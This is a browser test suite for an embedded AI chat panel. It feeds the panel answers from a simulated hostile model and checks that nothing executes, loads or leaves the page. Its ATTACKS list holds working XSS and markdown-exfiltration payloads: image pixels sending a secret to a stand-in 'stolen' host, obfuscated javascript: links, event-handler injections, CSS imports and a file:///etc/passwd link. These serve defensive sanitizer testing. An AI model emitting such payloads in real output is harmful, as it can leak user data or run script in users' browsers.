// A model that was turned against the user: whatever it writes, nothing runs, nothing loads, nothing leaves.

import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { startGateway } from './support/gateway.mjs';
import { journey, listen } from './support/journey.mjs';
import { last, startModel } from './support/model.mjs';
import { isValid } from './support/thread.mjs';

// Not ours to copy: read from where it lies, and left out with a word where it does not.
const SUITE = new URL('../../../shared/suites/dompurify/payloads.json', import.meta.url);

const ELSEWHERE = 'http://127.0.0.1:9/stolen';
const ATTACKS = [
  `![pixel](${ELSEWHERE}?q=secret)`,
  `![pixel][1]\n\n[1]: ${ELSEWHERE}?ref "title"`,
  `[![nested](${ELSEWHERE})](${ELSEWHERE})`,
  `<img src=${ELSEWHERE} onerror="window.ran('img')">`,
  '[click](javascript:window.ran("link"))',
  '[click](JaVaScRiPt:window.ran("link"))',
  '[click](java&#10;script:window.ran("link"))',
  '[click](&#x6A;avascript:window.ran("link"))',
  '[click](\u0001javascript:window.ran("link"))',
  '[click](data:text/html,<script>opener.ran("data")</script>)',
  '[click](vbscript:window.ran("vb"))',
  '[click](blob:http://127.0.0.1/x)',
  '[click](file:///etc/passwd)',
  '<javascript:window.ran("auto")>',
  '[click][j]\n\n[j]: javascript:window.ran("ref")',
  '[x](https://a.example "onmouseover=window.ran(1)")',
  '[x](https://a.example" onclick="window.ran(1))',
  '```"><img src=x onerror=window.ran("fence")>\ncode\n```',
  '```html\n<script>window.ran("code")</script>\n```',
  '| <img src=x onerror=window.ran("cell")> | b |\n|---|---|\n| <svg onload=window.ran("svg")> | `<script>window.ran()</script>` |',
  '<style>@import url(http://127.0.0.1:9/stolen.css); * { background: url(http://127.0.0.1:9/stolen) }</style>',
  '<link rel=stylesheet href=http://127.0.0.1:9/stolen.css><base href=http://127.0.0.1:9/>',
  '<form action=http://127.0.0.1:9/><button>Approve</button></form>',
  '<iframe srcdoc="<script>parent.ran(\'srcdoc\')</script>"></iframe>',
  '<details open ontoggle=window.ran("toggle"><summary>x</summary></details>',
  '<div id="pagehand-title">clobbered</div><input name="attributes">',
  '&lt;img src=x onerror=window.ran("entity")&gt;',
  '<!--><img src=x onerror=window.ran("comment")>-->',
  '[ref]: http://127.0.0.1:9/stolen "x"',
  '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/stolen">',
  '<a href="https://a.example" ping="http://127.0.0.1:9/stolen">x</a>',
];

const ALLOWED = 'a abbr article aside b blockquote br button caption code dd del details div dl dt em footer form h1 h2 h3 h4 h5 h6 header hr i input kbd label li nav ol p pre s section slot span strong sub summary sup table tbody td textarea tfoot th thead tr ul'.split(' ');

// The policy is switched off, so that what slips through would really run.
journey('answers full of attacks run nothing, load nothing and leave no dangerous element', { gateway: false, context: { bypassCSP: true } }, async (here) => {
  await attack(here, ATTACKS);
});

journey('so do the public payloads', { gateway: false, context: { bypassCSP: true }, skip: existsSync(SUITE) ? false : 'shared/suites/dompurify is not here' }, async (here) => {
  await attack(here, JSON.parse(readFileSync(SUITE, 'utf8')).map(({ payload }) => payload));
});

journey('under the policy of the gateway no attack even comes to its notice', { gateway: false }, async (here) => {
  await attack(here, ATTACKS);
});

journey('what a tool returns and what the user writes is shown as text', { gateway: false }, async (here) => {
  const { page, hand, hold } = here;
  const evil = '<img src=x onerror="window.ran(1)"><b>bold</b>';
  const model = hold(await startModel((body) => (last(body).role === 'user' ? { calls: [{ name: 'evil_tool', arguments: { html: evil } }] } : { text: 'done' })));
  await open(here, model);
  await page.evaluate((evil) => document.querySelector('page-hand').registerTool({
    name: 'evil_tool', owner: 'test', risk: 'read', label: evil, description: 'Returns something evil for the test of this panel.',
    parameters: { type: 'object', properties: { html: { type: 'string' } } },
    run: () => { throw new Error(evil); },
  }), evil);
  assert.equal(await hand.ask(evil), 'completed');
  assert.match(await hand.card('evil_tool').innerText(), /<b>bold<\/b>/);
  await clean(here);
});

journey('a tool of the page that returns 50 MB: the model reads which limit it is over, and the thread goes on', { gateway: false }, async (here) => {
  const { page, hand, hold } = here;
  const model = hold(await startModel((body) => (last(body).role === 'user' ? { calls: [{ name: 'big_tool' }, { name: 'deep_tool' }] } : { text: 'done' })));
  await open(here, model);
  await page.evaluate(async () => {
    const tool = (name, run) => document.querySelector('page-hand').registerTool({
      name, owner: 'test', risk: 'read', description: 'Returns far too much for the test of this panel.', run,
    });
    await tool('big_tool', () => 'x'.repeat(50e6));
    await tool('deep_tool', () => {
      let nested = 1;
      for (let level = 0; level < 200; level++) nested = [nested];
      return nested;
    });
  });
  assert.equal(await hand.ask('go'), 'completed');
  const results = model.asked.at(-1).messages.filter(({ role }) => role === 'tool').map(({ content }) => JSON.parse(content));
  assert.deepEqual(results.map(({ code }) => code), ['result_too_large', 'unserializable_result']);
  assert.match(results[0].message, /longer than 8 MiB/);
  assert.match(results[1].message, /nested deeper than 127 levels/);
  await hand.shows('big_tool', 'failed');
  await page.reload();
  await hand.shows('big_tool', 'failed');
  assert.equal(await hand.ask('once more'), 'completed');
  hand.asked.forEach(isValid);
  await clean(here);
});

journey('an agent whose answer is one endless line: the run ends with the limit in words, and the line is cut', { context: { bypassCSP: true } }, async ({ page, hand, hold }) => {
  let cut;
  const wasCut = new Promise((done) => (cut = done));
  const line = 'x'.repeat(64 * 1024);
  const agent = hold(await listen(createServer((request, response) => {
    response.setHeader('access-control-allow-origin', '*').setHeader('access-control-allow-headers', '*');
    if (request.method === 'OPTIONS') return response.writeHead(204).end();
    if (request.url === '/tools') return response.end('{"agent":{"label":"Endless","suggestions":[]},"tools":[]}');
    if (request.url !== '/agent') return response.end('{"problems":[]}');
    response.writeHead(200, { 'content-type': 'text/event-stream' }).write('data: ');
    const writing = setInterval(() => response.write(line), 1);
    response.on('close', () => (clearInterval(writing), cut()));
  })));
  await page.evaluate((url) => {
    document.querySelector('page-hand').remove();
    const element = Object.assign(document.createElement('page-hand'), { gateway: `${url}/`, placement: 'inline' });
    document.body.prepend(element);
  }, agent.url);
  await hand.composer.waitFor();
  assert.equal(await hand.ask('go on and on'), 'error');
  assert.equal(hand.events.findLast(({ type }) => type === 'error').detail.code, 'protocol');
  await hand.banner('an event of the stream is longer than 10 MiB').waitFor();
  await wasCut;
});

async function open({ page, hand, hold }, model) {
  const gateway = await startGateway({ env: model.env });
  hold({ stop: gateway.kill });
  hand.left = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(`${gateway.url}/`)) hand.left.push(request.url());
  });
  page.context().on('page', (other) => hand.left.push(`a new page: ${other.url()}`));
  await page.addInitScript(() => {
    window.marks = [];
    window.ran = (what) => window.marks.push(String(what));
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => window.marks.push(name);
  });
  await page.goto(gateway.url);
  await hand.open();
}

async function attack(here, payloads) {
  const { page, hand, hold } = here;
  let next = 0;
  const model = hold(await startModel(() => ({ text: payloads[next++] })));
  await open(here, model);
  for (let at = 0; at < payloads.length; at++) {
    const since = hand.events.length;
    await page.evaluate(() => document.querySelector('page-hand').send('more'));
    assert.equal(await hand.ended(since), 'completed', payloads[at]);
    if (at % 25 === 24 || at === payloads.length - 1) {
      await clean(here, payloads.slice(at - (at % 25), at + 1));
      await page.evaluate(() => document.querySelector('page-hand').newThread());
    }
  }
  assert.equal(model.asked.length, payloads.length);
  await page.reload();
  await hand.composer.waitFor();
  await clean(here);
}

// Looks at everything in the panel, walks its links as far as they go without leaving, and counts what happened.
async function clean({ page, hand }, payloads = []) {
  const about = `after one of:\n${payloads.join('\n---\n')}`;
  const found = await page.evaluate((allowed) => {
    const root = document.querySelector('page-hand').shadowRoot;
    const faults = [];
    for (const element of root.querySelectorAll('*')) {
      const own = !element.closest('.scroller');
      const tag = element.localName;
      if (!allowed.includes(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') faults.push(`<${tag}>`);
      if (!own && ['form', 'input'].includes(tag) && element.type !== 'checkbox') faults.push(`<${tag}> in the thread`);
      for (const { name, value } of element.attributes) {
        if (/^on|^(src|srcset|srcdoc|action|formaction|ping|poster|background|xlink:href)$/.test(name)) faults.push(`${tag} ${name}=${value}`);
        if (name === 'style' && !own) faults.push(`${tag} style=${value}`);
        if (name === 'href' && !/^(https?:|mailto:)$/.test(element.protocol)) faults.push(`${tag} href=${value}`);
        if (name === 'href' && element.origin !== location.origin && !/noopener/.test(element.rel)) faults.push(`${tag} href=${value} without noopener`);
      }
    }
    for (const id of new Set([...root.querySelectorAll('[id]')].map((element) => element.id))) {
      if (root.querySelectorAll(`[id="${CSS.escape(id)}"]`).length > 1) faults.push(`two of #${id}`);
    }
    return faults;
  }, ALLOWED);
  assert.deepEqual(found, [], about);
  await page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
  assert.deepEqual(await page.evaluate(() => window.marks), [], about);
  assert.deepEqual(hand.left, [], about);
}
